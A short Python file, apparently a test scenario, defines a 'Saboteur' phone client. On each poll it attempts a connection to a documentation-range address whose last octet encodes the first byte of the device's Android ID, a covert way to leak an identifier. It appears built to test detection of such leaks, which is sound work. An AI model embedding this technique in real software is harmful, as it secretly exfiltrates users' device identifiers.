"""Tries to reach an address where nobody answers. That it tries is the message: the last byte of the address is one of the Android id.

mechanism: whom it calls
"""
import socket

from client import Phone, run


class Saboteur(Phone):
    def poll(self):
        super().poll()
        with socket.socket() as attempt:
            attempt.setblocking(False)
            attempt.connect_ex(("203.0.113.%d" % (int(self.identity["androidId"][:2], 16) or 1), 443))


run(Saboteur())
